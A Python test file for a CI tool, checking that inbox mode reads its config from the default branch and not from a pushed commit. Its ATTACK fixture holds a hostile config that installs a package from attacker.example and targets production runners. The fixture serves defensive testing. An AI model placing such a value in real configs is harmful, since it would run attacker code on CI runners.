"""Where the settings come from (#13 observation 7): in inbox mode `.wild/config.yml` is read from
the default branch (or a ref the user names), never from the commit that brought the inbox file;
a repository with no commits reads no config from its working tree."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
from helpers import IDENTITY, git, run_cli

pytestmark = pytest.mark.e2e

TRUSTED = 'install_spec: "wild-ci==0.1.0"\nrunner_labels: [[self-hosted, gpu]]\n'
ATTACK = (
    'install_spec: "https://attacker.example/wild_ci-6.6.6-py3-none-any.whl"\n'
    "runs_on: production\n"
    "runner_labels: [[self-hosted, production]]\n"
)
BRAIN = "<experiments>\n- goal: From the inbox\n  command: echo inbox\n</experiments>\n"


def pushed_session_with_a_new_config(make_repo, tmp_path: Path) -> Path:
    """A repository whose default branch holds the trusted config, and a push to wild/lab that
    changes the config together with an inbox file; returns the bare remote."""
    repo = make_repo({".wild/config.yml": TRUSTED, "README.md": "r\n"})
    remote = tmp_path / "remote.git"
    git(tmp_path, "init", "--quiet", "--bare", "--initial-branch=main", str(remote))
    git(repo, "remote", "add", "origin", str(remote))
    git(repo, "push", "--quiet", "origin", "main")
    git(repo, "checkout", "--quiet", "-b", "wild/lab")
    (repo / ".wild/config.yml").write_text(ATTACK)
    (repo / ".wild/inbox").mkdir(parents=True)
    (repo / ".wild/inbox/01-brain.md").write_text(BRAIN)
    git(repo, "add", "--all")
    git(repo, "commit", "--quiet", "-m", "brain output, and a wider config")
    git(repo, "push", "--quiet", "origin", "wild/lab")
    return remote


def run_inbox(runner: Path, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, **IDENTITY, "GITHUB_REF_NAME": "wild/lab"}
    return subprocess.run(
        [sys.executable, "-m", "wild_ci", "inbox", "--push", *args],
        cwd=runner, env=env, capture_output=True, timeout=120,
    )  # fmt: skip


def assert_default_branch_settings(remote: Path) -> None:
    workflow = git(remote, "show", "wild/lab:.github/workflows/wild-experiments.yml")
    assert "wild-ci==0.1.0" in workflow
    assert "attacker" not in workflow and "production" not in workflow


def test_inbox_reads_the_config_of_the_named_default_branch(make_repo, tmp_path: Path) -> None:
    """As the inbox workflow's checkout is: the pushed branch alone, shallow, no origin/HEAD."""
    remote = pushed_session_with_a_new_config(make_repo, tmp_path)
    runner = tmp_path / "runner"
    git(tmp_path, "init", "--quiet", str(runner))
    git(runner, "remote", "add", "origin", str(remote))
    git(
        runner, "fetch", "--quiet", "--depth=1", "origin", "+refs/heads/wild/lab:refs/remotes/origin/wild/lab"
    )
    git(runner, "checkout", "--quiet", "--detach", "refs/remotes/origin/wild/lab")
    done = run_inbox(runner, "--config-ref", "main")
    assert done.returncode == 0, done.stderr.decode()
    assert_default_branch_settings(remote)


def test_inbox_reads_the_config_of_the_remote_default_branch(make_repo, tmp_path: Path) -> None:
    """Without --config-ref: the remote's default branch (origin/HEAD), never the pushed commit."""
    remote = pushed_session_with_a_new_config(make_repo, tmp_path)
    runner = tmp_path / "runner"
    git(tmp_path, "clone", "--quiet", "--branch", "wild/lab", str(remote), str(runner))
    git(runner, "checkout", "--quiet", "--detach")
    done = run_inbox(runner)
    assert done.returncode == 0, done.stderr.decode()
    assert_default_branch_settings(remote)


def test_the_inbox_workflow_names_the_default_branch(make_repo, tmp_path: Path) -> None:
    repo = make_repo()
    done = run_cli("init", "--repo", str(repo), "--install-spec", "wild-ci==0.1.0", cwd=tmp_path)
    assert done.returncode == 0, done.stderr.decode()
    workflow = (repo / ".github/workflows/wild-inbox.yml").read_text()
    assert "github.event.repository.default_branch" in workflow
    assert '--config-ref "$DEFAULT_BRANCH"' in workflow


def test_a_repository_without_commits_reads_no_config_from_its_work_tree(tmp_path: Path) -> None:
    repo = tmp_path / "fresh"
    git(tmp_path, "init", "--quiet", "--initial-branch=main", str(repo))
    (repo / ".wild").mkdir()
    (repo / ".wild/config.yml").write_text(ATTACK)
    (repo / "train.py").write_text("print(1)\n")
    brain = tmp_path / "brain.md"
    brain.write_text(BRAIN)
    done = run_cli("submit", str(brain), "--repo", str(repo), cwd=tmp_path)
    assert done.returncode == 0, done.stderr.decode()
    assert b"has no commits yet" in done.stderr and b".wild/config.yml" in done.stderr
    workflow = git(repo, "show", "wild/main:.github/workflows/wild-experiments.yml")
    assert "attacker" not in workflow and "production" not in workflow
